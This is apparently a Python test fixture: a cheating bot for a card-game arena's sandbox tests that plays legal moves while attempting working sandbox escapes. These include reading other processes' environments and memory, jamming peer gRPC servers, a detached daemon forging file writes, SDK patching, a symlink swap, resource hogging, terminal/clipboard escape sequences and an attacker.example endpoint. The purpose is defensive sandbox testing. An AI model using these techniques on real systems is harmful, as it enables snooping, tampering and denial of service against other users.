"""attacker: a bot written to cheat, for the sandbox tests (tests/adversarial/test_sandbox.py).

It plays legal moves (the first legal action) and tries, from inside its process, what a
hostile bot author would try against a league (issue 14). It reports each attempt on
stderr as one line ``ATTACK {"attack": ..., "ok": bool, ...}`` — the only channel a
sandboxed bot surely has, and one the arena keeps in ``bots/<match>.s<seat>.stderr.log``.
``ok`` true means the attack worked.

The attacks (``MUS_ATTACK`` is a comma-separated list; all by default):

``read``      read the files named in ``MUS_ATTACK_READ`` (colon-separated: the league
              file, the output folder's secret and results), and /proc/1/cmdline
``procs``     find other processes: read their environment and a page of their memory
``peers``     find other bots' sockets (/proc/net/unix, /proc/net/tcp) and open idle
              ``Play`` streams on them (jamming their server threads)
``twin``      leave its cards of each hand in shared places (/tmp, /dev/shm, $HOME,
              ``MUS_ATTACK_SHARED``) and look there for cards another process left
``daemon``    start a detached grandchild (double fork, setsid) that outlives the bot and
              appends to the files in ``MUS_ATTACK_WRITE`` for ``MUS_ATTACK_DAEMON_S`` s
``sdk``       append to the SDK's own source (patching it for later opponents)
``symlink``   at the match end, replace its socket by a link to ``MUS_ATTACK_VICTIM``
              (the arena used to unlink the announced path when it stopped the bot)
``network``   list its network interfaces (no traffic is sent)
``escape``    write terminal escape sequences (window title, OSC 52 clipboard) to stderr;
              with ``exit`` too, then exit with code 3 before announcing (a start failure)
``hog``       start ``MUS_ATTACK_HOG_N`` (4) children that each fill and hold 100 MB: each
              under the address-space limit of one process, together over the bot's memory
``remote``    announce ``localhost.attacker.example:PORT`` instead of serving (a bot that
              wants the arena to connect to another machine)
``ponder``    from its first decision on, a thread spins without end (a bot thinking on the
              others' time, stealing the CPU of the seat that decides, or signalling its
              partner through the load); each later decision reports how much CPU that
              thread got between the end of the bot's previous decision and this one,
              against the wall time between them: ``ATTACK {"attack": "ponder", "spun":
              s, "waited": s}``

``MUS_ATTACK_THINK_MS``: each decision first sleeps that long (an opponent that thinks).
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time

import mus_sdk
from mus_sdk import NO_MUS, NO_QUIERO, PASO, Action, Bot, Observation, serve

ATTACKS = set((os.environ.get("MUS_ATTACK") or
               "read,procs,peers,twin,daemon,sdk,symlink,network,escape").split(","))
TAG = os.environ.get("MUS_ATTACK_TAG", "attacker")
INSTANCE = f"{os.getpid()}-{os.urandom(4).hex()}"
SHARED = [p for p in ("/tmp", "/dev/shm", os.environ.get("HOME", ""), os.environ.get("MUS_ATTACK_SHARED", "")) if p]


def report(attack: str, ok: bool, **detail: object) -> None:
    sys.stderr.write("ATTACK " + json.dumps({"attack": attack, "ok": ok, **detail}, default=str) + "\n")
    sys.stderr.flush()


def attack_read() -> None:
    got = {}
    for path in [p for p in os.environ.get("MUS_ATTACK_READ", "").split(":") if p] + ["/proc/1/cmdline"]:
        try:
            with open(path, "rb") as f:
                got[path] = f.read(200).decode("utf-8", "replace")
        except OSError as exc:
            got[path] = None
            del exc
    # /proc/1 is our own namespace's init when sandboxed: only a read of a named file counts.
    named = {p: v for p, v in got.items() if p != "/proc/1/cmdline"}
    report("read", any(v is not None for v in named.values()), read=[p for p, v in named.items() if v is not None],
           proc1=got["/proc/1/cmdline"])


def _others() -> list[int]:
    own = {os.getpid(), os.getppid()}
    return [int(e) for e in os.listdir("/proc") if e.isdigit() and int(e) not in own]


def attack_procs() -> None:
    environs, memories = 0, 0
    for pid in _others():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read()
            if b"MUS_ARENA_COOKIE" in env and f"MUS_ATTACK_TAG={TAG}".encode() not in env:
                environs += 1  # another bot's environment (not a copy of me)
                with open(f"/proc/{pid}/maps") as f:
                    first = f.readline().split()[0].split("-")[0]
                with open(f"/proc/{pid}/mem", "rb") as f:
                    f.seek(int(first, 16))
                    if f.read(64):
                        memories += 1
        except (OSError, ValueError, IndexError):
            continue
    report("procs", environs > 0, visible=len(_others()), environs=environs, memories=memories)


def _listening() -> list[str]:
    targets = []
    try:
        with open("/proc/net/unix") as f:
            for line in f.readlines()[1:]:
                parts = line.split()
                if len(parts) >= 8 and parts[3] == "00010000" and parts[7].startswith("/"):
                    targets.append(f"unix:{parts[7]}")
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            with open(table) as f:
                for line in f.readlines()[1:]:
                    parts = line.split()
                    ip, port = parts[1].split(":")
                    if parts[3] == "0A" and ip.endswith("0100007F"):
                        targets.append(f"127.0.0.1:{int(port, 16)}")
    except OSError:
        pass
    return targets


JAMS: list[object] = []


def attack_peers(own: str) -> None:
    import grpc
    from mus.v1 import bot_service_pb2 as pb
    from mus.v1 import bot_service_pb2_grpc as pb_grpc

    opened = 0
    for target in _listening():
        if own and own in target:
            continue
        try:
            channel = grpc.insecure_channel(target)
            stub = pb_grpc.BotServiceStub(channel)
            stub.GetInfo(pb.GetInfoRequest(protocol_versions=[1]), timeout=0.5)
            for _ in range(8):  # idle streams: each holds one of the victim's server threads
                JAMS.append(stub.Play(iter(threading.Event().wait, True)))
            JAMS.append(channel)
            opened += 1
        except Exception:
            continue
    report("peers", opened > 0, found=len(_listening()), jammed=opened)


def attack_twin(hand: int, cards: list[str]) -> None:
    seen = 0
    for base in SHARED:
        folder = os.path.join(base, f"mus-twin-{TAG}")
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"{hand}-{INSTANCE}"), "w") as f:
                f.write(" ".join(cards))
            seen += sum(1 for name in os.listdir(folder) if not name.endswith(INSTANCE))
        except OSError:
            continue
    if seen:
        report("twin", True, hand=hand, seen=seen)


def attack_daemon() -> None:
    seconds = os.environ.get("MUS_ATTACK_DAEMON_S", "20")
    code = (
        "import os, sys, time\n"
        "end = time.time() + float(sys.argv[1])\n"
        "while time.time() < end:\n"
        "    for p in sys.argv[3:]:\n"
        "        try:\n"
        "            open(p, 'a').write('FORGED by ' + sys.argv[2] + '\\n')\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(0.2)\n"
    )
    argv = [sys.executable, "-c", code, seconds, f"MUS-ATTACK-DAEMON-{TAG}",
            *[p for p in os.environ.get("MUS_ATTACK_WRITE", "").split(":") if p]]
    if os.fork() == 0:  # child: a new session, then a grandchild the bot does not wait for
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sys.executable, argv)
        os._exit(0)
    os.wait()
    report("daemon", True, started=True)


def attack_sdk() -> None:
    path = mus_sdk.__file__ or ""
    try:
        with open(path, "a") as f:
            f.write("\n# patched by the attacker\n")
        report("sdk", True, path=path)
    except OSError as exc:
        report("sdk", False, path=path, error=exc.strerror)


def attack_hog() -> None:
    code = ("import os, sys, time\n"
            "block = bytearray(100 * 1024 * 1024)\n"
            "for i in range(0, len(block), 4096):\n"
            "    block[i] = 1\n"
            "os.write(int(sys.argv[1]), b'A')\n"
            "time.sleep(60)\n")
    import subprocess

    count = int(os.environ.get("MUS_ATTACK_HOG_N", "4"))
    read_end, write_end = os.pipe()
    children = [subprocess.Popen([sys.executable, "-c", code, str(write_end)], pass_fds=(write_end,))
                for _ in range(count)]
    os.close(write_end)
    os.set_blocking(read_end, False)
    allocated, deadline = 0, time.monotonic() + 20
    # Until every child has its 100 MB or is dead.
    while allocated + sum(c.poll() is not None for c in children) < count and time.monotonic() < deadline:
        try:
            allocated += len(os.read(read_end, 64))
        except BlockingIOError:
            time.sleep(0.05)
    report("hog", allocated == count, allocated=allocated, killed=sum(c.poll() is not None for c in children))


def report_runtime() -> None:
    """Not an attack: what the sandbox gave this Python bot (protobuf's compiled core, the
    SDK's gRPC tuning), so that a test sees a strict bot runs at full speed."""
    from google.protobuf.internal import api_implementation

    report("runtime", False, protobuf=api_implementation.Type(), grpc_experiments=os.environ.get("GRPC_EXPERIMENTS"))


def attack_network() -> None:
    names = [name for _, name in socket.if_nameindex()]
    report("network", names != ["lo"], interfaces=names)


def attack_escape() -> None:
    sys.stderr.write("\x1b]0;PWNED-TITLE\x07\x1b]52;c;cHduZWQ=\x07\x1b[2J plain text after escapes\n")
    sys.stderr.flush()


THINK_S = int(os.environ.get("MUS_ATTACK_THINK_MS") or 0) / 1000


class Ponder:
    """The ``ponder`` attack: a thread that spins, and the CPU it got while the bot waited."""

    def __init__(self) -> None:
        # The spinner holds the GIL in turns with the bot's own gRPC threads: switching
        # often keeps what the bot spends on sending and reading (its own time) small
        # beside what it would take from the others.
        sys.setswitchinterval(0.0005)
        spinner = threading.Thread(target=self._spin, daemon=True)
        spinner.start()
        assert spinner.ident is not None
        self.clock = time.pthread_getcpuclockid(spinner.ident)
        self.ended: tuple[float, float] | None = None  # (wall, spinner CPU) when the last decision ended

    @staticmethod
    def _spin() -> None:
        n = 0
        while True:
            n += 1

    def asked(self) -> None:
        if self.ended is not None:
            wall, cpu = self.ended
            report("ponder", False, waited=time.monotonic() - wall, spun=time.clock_gettime(self.clock) - cpu)

    def answered(self) -> None:
        self.ended = (time.monotonic(), time.clock_gettime(self.clock))


class Attacker(Bot):
    name = "attacker"

    def __init__(self) -> None:
        self.started = False
        self.socket_path = ""
        self.ponder: Ponder | None = None

    def decide(self, obs: Observation) -> Action:
        if self.ponder is not None:
            self.ponder.asked()
        elif "ponder" in ATTACKS:
            self.ponder = Ponder()
        time.sleep(THINK_S)
        action = self._decide(obs)
        if self.ponder is not None:
            self.ponder.answered()
        return action

    def _decide(self, obs: Observation) -> Action:
        if not self.started:
            self.started = True
            report_runtime()
            for name, run in (("read", attack_read), ("procs", attack_procs), ("sdk", attack_sdk),
                              ("network", attack_network), ("daemon", attack_daemon), ("hog", attack_hog)):
                if name in ATTACKS:
                    run()
            if "peers" in ATTACKS:
                attack_peers(self.socket_path)
        if "twin" in ATTACKS:
            attack_twin(obs.hand, [str(c) for c in obs.cards])
        for a in (NO_MUS, PASO, NO_QUIERO):  # the cheapest legal answer: it loses fast
            if a in obs.legal_actions:
                return a
        return obs.legal_actions.fixed[0]

    def on_match_end(self, result):  # type: ignore[no-untyped-def]
        victim = os.environ.get("MUS_ATTACK_VICTIM")
        if "symlink" in ATTACKS and victim:
            try:
                os.replace(self.socket_path, self.socket_path + ".old")
                os.symlink(victim, self.socket_path)
                report("symlink", True, link=self.socket_path, to=victim)
            except OSError as exc:
                report("symlink", False, error=exc.strerror, socket=self.socket_path)


if __name__ == "__main__":
    if "escape" in ATTACKS:
        attack_escape()
        if "exit" in ATTACKS:
            sys.exit(3)
    if "remote" in ATTACKS:
        print("1|1|tcp|localhost.attacker.example:50051|grpc", flush=True)
        time.sleep(30)
        sys.exit(0)
    bot = Attacker()
    folder = os.environ.get("MUS_ARENA_SOCKET_DIR", "")
    if folder:
        # The SDK names its socket mus-bot-<pid>-<id>.sock in this folder; find it once served.
        def remember() -> None:
            for _ in range(200):
                names = [n for n in os.listdir(folder) if n.endswith(".sock")]
                if names:
                    bot.socket_path = os.path.join(folder, names[0])
                    return
                time.sleep(0.01)
        threading.Thread(target=remember, daemon=True).start()
    serve(bot)
